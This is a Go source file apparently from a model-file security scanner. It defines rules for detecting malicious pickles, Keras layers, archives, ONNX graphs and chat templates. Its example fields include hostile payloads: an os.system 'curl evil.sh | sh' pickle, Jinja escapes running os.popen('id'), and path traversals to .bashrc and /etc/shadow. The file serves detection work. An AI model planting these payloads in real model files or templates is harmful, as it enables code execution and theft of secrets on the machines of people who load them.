package finding

import (
	"sort"

	"github.com/modelward/modelward/framework"
)

// Rule describes one stable rule ID. IDs never change meaning once
// published; a retired rule keeps its number.
type Rule struct {
	ID        string          `json:"id"`
	Name      string          `json:"name"`
	Severity  Severity        `json:"defaultSeverity"`
	Title     string          `json:"title"`
	Rationale string          `json:"rationale"`
	Example   string          `json:"example"`
	Refs      []framework.Ref `json:"references"`
}

var (
	refSupplyChainModel = framework.MustATLAS("AML.T0010.003", "Model")
	refUnsafeArtifacts  = framework.MustATLAS("AML.T0011.000", "Unsafe AI Artifacts")
	refML06             = framework.OWASPMLRef("ML06", "AI Supply Chain Attacks", "ML06_2023-AI_Supply_Chain_Attacks")
	refLLM03            = framework.OWASPLLMRef("LLM03", "Supply Chain")
	supplyChain         = []framework.Ref{refSupplyChainModel, refUnsafeArtifacts, refML06, refLLM03}
)

// Rule IDs. MW1xx: pickle streams; MW2xx: containers and archives;
// MW3xx: formats and inspection coverage.
const (
	PickleDangerous     = "MW101"
	PickleUnknownImport = "MW102"
	PickleMalformed     = "MW103"
	PickleFrame         = "MW104"
	PickleMemo          = "MW105"
	PickleNested        = "MW106"
	PickleExecutable    = "MW107"
	PickleDenied        = "MW108"
	PickleTrailing      = "MW109"
	ExternalLoad        = "MW110"
	NotInspected        = "MW201"
	LimitReached        = "MW202"
	ArchiveAnomaly      = "MW203"
	ArchiveNameMismatch = "MW204"
	FormatUnknown       = "MW301"
	FormatMismatch      = "MW302"
	ObjectArray         = "MW303"
	SafetensorsInvalid  = "MW304"
	SafetensorsSpan     = "MW305"
	MetadataInjection   = "MW306"
	Polyglot            = "MW307"

	ArchivePathTraversal = "MW205"
	ArchiveLinkEscape    = "MW206"
	ArchiveBomb          = "MW207"

	KerasLambda          = "MW308"
	KerasUnsafeReference = "MW309"
	KerasUnsafeMode      = "MW310"
	KerasCustomObject    = "MW311"
	GraphUnsafeOp        = "MW312"
	ExternalDataEscape   = "MW313"
	CustomOperator       = "MW314"
	StructureInvalid     = "MW315"
	TemplateInjection    = "MW316"
	ModelFunctions       = "MW317"
	RemoteCode           = "MW318"
)

var rules = []Rule{
	{PickleDangerous, "pickle-dangerous-callable", Critical,
		"Pickle imports a callable that can run code, start processes, touch files or the network, or load further code",
		"Unpickling calls whatever the stream imports. The callable is in the curated dangerous set (code execution, processes, files, network, dynamic import and name resolution, nested deserialisation, native libraries), so loading this file can compromise the machine.",
		"A pickle whose __reduce__ returns (os.system, (\"curl evil.sh | sh\",)): `GLOBAL 'posix system'`, then `REDUCE` with that string.",
		supplyChain},
	{PickleUnknownImport, "pickle-unknown-import", Medium,
		"Pickle imports a callable outside the allowlist: not verified safe",
		"Only callables that real model files need, checked against files written by the real libraries, are allowlisted. Anything else is imported (running its module's import-time code) and possibly called at load; it has not been verified safe.",
		"A scikit-learn pipeline that includes `mycompany.features.Cleaner`, a class of the user's own code.",
		supplyChain},
	{PickleMalformed, "pickle-malformed-stream", High,
		"Pickle stream is malformed or ends early: not fully inspected",
		"Loaders stop at the first error, but everything before it has already run; a stream that breaks after its imports is a known way to hide a payload from scanners that give up on errors. The imports seen before the break are reported.",
		"`cbuiltins\\nexec\\n` followed by bytes that are not opcodes: exec is imported, then the stream breaks.",
		supplyChain},
	{PickleFrame, "pickle-frame-mismatch", High,
		"Pickle FRAME length does not match the opcodes it frames",
		"The pickler always writes frames whose lengths match whole opcodes. A frame that lies is crafted, typically to make scanners and loaders disagree on where opcodes start.",
		"A protocol 4 stream whose first FRAME claims 3 bytes while the opcodes it holds are 20 bytes long.",
		supplyChain},
	{PickleMemo, "pickle-memo-misuse", Medium,
		"Pickle memo is used in a way no pickler writes",
		"Overwriting a memo slot or reading one that was never written lets a crafted stream swap objects under a scanner that does not model the memo.",
		"`BINGET 3` before anything was stored in slot 3, or two `BINPUT 1` with different objects.",
		supplyChain},
	{PickleNested, "pickle-nested-payload", High,
		"Bytes handed to a loader contain a further pickle or model",
		"A pickle that calls a loader (pickle.loads, torch.load, numpy.load, joblib.load, ...) on embedded bytes runs the inner payload at load time; the inner stream is scanned and reported with its own findings.",
		"`pickle.loads(b\"\\x80\\x04...\")`, or `torch.storage._load_from_bytes` handed a torch.save archive.",
		supplyChain},
	{PickleExecutable, "embedded-executable", High,
		"Byte string holds an executable (ELF, PE, Mach-O or a script with a shebang)",
		"Model weights are numbers; an executable image inside a model's byte strings is a dropper waiting for a loader gadget.",
		"A byte string starting with `\\x7fELF` passed to a function that writes it to disk.",
		supplyChain},
	{PickleDenied, "policy-denied-import", Critical,
		"Pickle imports a callable that the policy denies",
		"The effective policy lists this callable in its deny list.",
		"A policy with `deny: [numpy.random]` and a pickle that imports numpy.random.mtrand.RandomState.",
		supplyChain},
	{PickleTrailing, "pickle-trailing-data", Low,
		"Bytes follow the last pickle stream and are not a pickle",
		"pickle.load stops at STOP and never reads what follows, but other loaders or a second load call might; the bytes are reported so nothing is silently ignored.",
		"A valid pickle followed by 200 bytes of text.",
		supplyChain},
	{ExternalLoad, "external-file-load", High,
		"Loading the pickle makes the loader read another file and unpickle what it holds",
		"Old joblib dumps name a side file per array that joblib loads with numpy.load(allow_pickle=True). A name that is absolute or climbs out of the model's folder reaches any file on the machine, such as one an attacker dropped earlier; a side file next to the dump is scanned with it and this finding is informational.",
		"A pickle whose joblib NDArrayWrapper has filename \"/tmp/payload.npy\".",
		supplyChain},
	{NotInspected, "not-inspected", High,
		"Content could not be inspected: encrypted, or compressed with an unsupported method",
		"A file that could not be read cannot be called clean. Decrypt or unpack it and scan the contents.",
		"A zip made with `7z a -tzip -pSECRET` holding a pickle.",
		supplyChain},
	{LimitReached, "limit-reached", High,
		"A scanner limit was reached: the rest was not inspected",
		"Limits on sizes, depth, counts, decompression ratio and time keep hostile inputs from exhausting the scanner. Content past a limit was not inspected, so the file is not called clean. Raise the limit in the policy only for files you trust.",
		"A gzip stream that inflates past max_decompressed_bytes, or a pickle with more memo entries than max_memo.",
		supplyChain},
	{ArchiveAnomaly, "archive-anomaly", Low,
		"Archive structure deviates from what its writer produces (bad CRC, unusual flag bits, data outside the central directory)",
		"Loaders such as PyTorch read zips tolerantly; these anomalies are tolerated the same way so nothing is hidden, and reported because real writers do not produce them.",
		"A PyTorch zip whose data.pkl has a wrong CRC-32, or the encryption flag bit set on plain data.",
		supplyChain},
	{ArchiveNameMismatch, "archive-name-mismatch", Medium,
		"A zip member's local header names a different file than the central directory",
		"Different readers pick different names; both names are reported and the data scanned, since a crafted archive uses this to show scanners one file and loaders another.",
		"A zip whose local header says `archive/data.pkl` while the central directory says `archive/data.bin`.",
		supplyChain},
	{FormatUnknown, "format-unrecognised", Info,
		"Content is not a recognised model format and was not analysed",
		"modelward recognises formats by content. A file it does not recognise is listed, never called clean.",
		"A PNG image, a text file or an empty file.",
		nil},
	{FormatMismatch, "format-extension-mismatch", Low,
		"File extension does not match the format found in its content",
		"Formats are recognised by content; a mismatch is reported because it is a common way to slip files past extension-based filters.",
		"A PNG image named `model.pt`.",
		supplyChain},
	{SafetensorsInvalid, "safetensors-invalid-header", High,
		"safetensors header breaks the format: too long, not JSON, duplicate names, unknown dtypes",
		"The reference parser refuses such a header; a lenient one guesses, and two readers that guess differently load different tensors. A header that cannot be read leaves the file uninspected.",
		"A header in which the tensor name \"a\" appears twice with different offsets.",
		supplyChain},
	{SafetensorsSpan, "safetensors-lying-offsets", High,
		"safetensors header lies about where tensor bytes are: spans outside the file, overlapping, with gaps, or not matching dtype and shape",
		"Loaders slice the data buffer by these offsets. Spans that overlap alias one tensor's bytes into another, spans past the end or at odds with dtype times shape make readers read outside the tensor, and gaps hide bytes that no tensor accounts for.",
		"Two tensors with data_offsets [0, 16] and [8, 24].",
		supplyChain},
	{MetadataInjection, "metadata-injection", High,
		"Model metadata carries a template or code",
		"Metadata values are plain strings (a format name, a licence). A Jinja expression, Python or a script in them is waiting for a tool that renders or evaluates metadata, such as a model card or a hub page.",
		"A __metadata__ value of \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\".",
		supplyChain},
	{Polyglot, "polyglot-file", High,
		"File is valid as two formats at once",
		"Loaders recognise formats differently: zip readers find an archive by its end record, others read the first bytes. A file that is a pickle at its start and a zip archive at its end shows torch.load, pickle.load and zipfile different models; scanners that stop at the first format see only one of them. Both are scanned and the file is reported.",
		"A pickle with a zip archive appended, whose end record makes Python's zipfile read the archive.",
		supplyChain},
	{ArchivePathTraversal, "archive-path-traversal", High,
		"Archive member name escapes the extraction folder",
		"A member whose name is absolute, has a drive letter, or climbs out with .. is written outside the folder by extractors that trust names (zip-slip). Model loaders and users who unpack a download with common tools overwrite files of their choosing: shell profiles, site-packages, cron entries.",
		"A zip member named `../../.bashrc`, or a tar member named `/etc/cron.d/job`.",
		supplyChain},
	{ArchiveLinkEscape, "archive-link-escape", High,
		"Archive link points outside the extraction folder",
		"A symbolic or hard link whose target is absolute or climbs out of the folder makes extraction, or a loader that opens the member by name, read or write a file elsewhere on the machine; a later member written through the link lands where the link points.",
		"A tar symlink `weights -> /home/user/.ssh`, followed by a member `weights/authorized_keys`.",
		supplyChain},
	{ArchiveBomb, "archive-bomb", High,
		"Archive or compressed stream expands beyond a safe ratio or size",
		"A member that decompresses to far more than its stored size (a compression-ratio bomb) exhausts the memory or disk of whatever unpacks it. The scan stops reading it at the limit; the content beyond was not inspected.",
		"A 40 KiB zip member that inflates to 4 GiB of zeros.",
		supplyChain},
	{KerasLambda, "keras-lambda-layer", Critical,
		"Keras Lambda layer carries Python code",
		"A Lambda layer stores its function as marshalled Python bytecode (or source) in the model configuration. Loading the model rebuilds the function and runs it when the layer is called, which happens while the model is being reconstructed; it can do anything Python can. The names and constants the bytecode references are reported.",
		"A Sequential model with `Lambda(lambda x: __import__('os').system('id') or x)` saved to .h5.",
		supplyChain},
	{KerasUnsafeReference, "keras-unsafe-reference", Critical,
		"Keras configuration refers to a module or function outside Keras",
		"Keras resolves `module` and `class_name` (and registered names) from the configuration by importing them. A reference outside the Keras, TensorFlow and NumPy namespaces (builtins, os, subprocess, or any other module) makes loading import and call arbitrary code, even in safe mode (CVE-2025-1550).",
		"A layer config with `\"module\": \"builtins\", \"class_name\": \"function\"` pointing at `exec`.",
		supplyChain},
	{KerasUnsafeMode, "keras-unsafe-deserialization", Critical,
		"Keras configuration switches safe mode off or enables unsafe deserialisation",
		"Keras refuses to rebuild Lambda functions and arbitrary objects in safe mode. A configuration that carries `safe_mode: false` or calls `enable_unsafe_deserialization` turns the protection off for the rest of the load (CVE-2025-9906).",
		"A layer whose config names `keras.config.enable_unsafe_deserialization` as a function to call, followed by a Lambda layer.",
		supplyChain},
	{KerasCustomObject, "keras-custom-object", Low,
		"Keras model needs custom objects to load",
		"Custom layers, losses or functions are not part of Keras: loading the model requires the user's own code for them, which this scan cannot see. Review the code that supplies them.",
		"A layer with `registered_name: \"MyPackage>Attention\"`.",
		supplyChain},
	{GraphUnsafeOp, "graph-unsafe-operation", High,
		"Model graph contains an operation that touches files, the network or Python",
		"A TensorFlow graph runs its operations when the model is loaded or called. Operations that read or write files, list directories, open network connections or call back into Python (PyFunc, EagerPyFunc) give the model the power to read secrets, plant files or run arbitrary code. Calls into Python are critical.",
		"A SavedModel whose serving function holds `ReadFile` of `/etc/passwd`, or a `PyFunc` node.",
		supplyChain},
	{ExternalDataEscape, "external-data-escape", Critical,
		"Model refers to external data outside its folder",
		"Formats that keep tensors in side files (ONNX external data) open them by the path the model gives. An absolute path, or one that climbs out of the model's folder, makes the loader read any file on the machine into the model, where it can be exfiltrated through outputs (CVE-2022-25882, CVE-2024-27318).",
		"An ONNX initializer with `data_location: EXTERNAL` and `location: ../../../../etc/shadow`.",
		supplyChain},
	{CustomOperator, "custom-operator", Medium,
		"Model uses operators outside the standard set",
		"Operators from custom domains or unknown to the standard operator set are implemented by native libraries that the runtime must load; what they do cannot be checked from the model. Well-known vendor domains are informational.",
		"An ONNX node `evil.Exec` from domain `com.attacker`, requiring a custom op library.",
		supplyChain},
	{StructureInvalid, "format-structure-invalid", High,
		"File breaks its format's structure: not fully inspected",
		"Sizes, offsets or counts that run past the file, or records that cannot be parsed, are how crafted files attack parsers or hide content from scanners. The parts that could be read were inspected; the rest was not.",
		"A GGUF file whose tensor info puts a tensor's data beyond the end of the file.",
		supplyChain},
	{TemplateInjection, "template-injection", Critical,
		"Template can escape the Jinja sandbox and run code",
		"Chat templates (GGUF tokenizer.chat_template, Hugging Face tokenizer_config.json) are Jinja programs rendered by the inference server. Attribute chains to __class__, __mro__, __subclasses__, __globals__ or __builtins__, and gadgets such as cycler, joiner, namespace and lipsum reach Python's internals and run commands, in plain or obfuscated spellings (CVE-2024-34359).",
		"`{{ cycler.__init__.__globals__.os.popen('id').read() }}` in tokenizer.chat_template.",
		supplyChain},
	{ModelFunctions, "model-local-functions", Info,
		"Model defines functions of its own",
		"Model-local functions (ONNX functions) are expanded by the runtime into their bodies, whose operators are checked like any other; they are listed so a reviewer knows the graph is not all on its surface.",
		"An ONNX model with a function `custom.Preprocess` built from standard operators.",
		supplyChain},
	{RemoteCode, "remote-code-required", Medium,
		"Model runs Python code shipped with it (trust_remote_code)",
		"A Hugging Face config.json or tokenizer_config.json whose auto_map names classes makes transformers import Python modules from the repository when loaded with trust_remote_code=True; that code runs with the user's rights and is not a model format this scan can judge. A class taken from another repository (\"org/repo--module.Class\") runs code that is not even in the files scanned, and is high.",
		"`\"auto_map\": {\"AutoModelForCausalLM\": \"modeling_evil.EvilModel\"}` with a modeling_evil.py beside the weights.",
		supplyChain},
	{ObjectArray, "numpy-object-array", Info,
		"NumPy array of Python objects: its pickle payload was scanned",
		"Object arrays are stored as pickles and loading them with allow_pickle=True runs that pickle; the payload was analysed like any pickle.",
		"`np.save('a.npy', np.array([1, 'x', None], dtype=object))`.",
		supplyChain},
}

var ruleIndex = func() map[string]Rule {
	m := make(map[string]Rule, len(rules))
	for _, r := range rules {
		m[r.ID] = r
	}
	return m
}()

// Lookup returns the rule with the given ID.
func Lookup(id string) (Rule, bool) {
	r, ok := ruleIndex[id]
	return r, ok
}

// Rules returns every rule, ordered by ID.
func Rules() []Rule {
	out := append([]Rule(nil), rules...)
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// New makes a finding of rule id with the rule's default severity.
func New(id string, loc Location, msg string, ev Evidence) Finding {
	r, ok := ruleIndex[id]
	if !ok {
		panic("finding: unknown rule " + id) // a programming error, caught by tests
	}
	return Finding{Rule: id, Severity: r.Severity, Location: loc, Message: msg, Evidence: ev}
}
